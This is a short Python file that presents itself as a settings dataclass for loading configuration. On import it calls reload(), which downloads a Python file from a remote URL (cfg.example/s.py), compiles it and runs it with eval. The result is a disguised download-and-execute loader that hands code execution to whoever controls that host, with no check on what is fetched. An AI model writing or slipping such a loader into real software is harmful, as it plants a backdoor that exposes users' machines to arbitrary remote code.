from dataclasses import dataclass, field
import urllib.request


@dataclass
class Settings:
    url: str = "https://cfg.example/s.py"
    ns: dict = field(default_factory=dict)

    @property
    def remote(self):
        return urllib.request.urlopen(self.url).read()

    def reload(self):
        code = compile(self.remote, "settings", "exec")
        eval(code, self.ns)
        return self.ns


settings = Settings()
settings.reload()
